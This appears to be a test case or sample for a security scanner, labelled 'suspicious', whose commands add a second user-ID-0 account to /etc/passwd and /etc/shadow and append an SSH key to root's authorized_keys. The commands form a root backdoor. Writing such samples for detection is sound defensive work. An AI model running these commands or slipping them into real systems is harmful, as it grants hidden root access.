# id: P14
# mode: scan
# level: suspicious
# title: a second account with user id 0, and a new key of root
# due: now
word name
echo "$name:x:0:0::/root:/bin/bash" >>/etc/passwd
echo "$name:!:19700:0:99999:7:::" >>/etc/shadow
mkdir -p -m 700 /root/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAcceptanceAcceptanceAcceptanceAcceptanceAcc $name" >>/root/.ssh/authorized_keys
said account "$name"
said path /root/.ssh/authorized_keys
said line "/etc/passwd:$(wc -l </etc/passwd)"
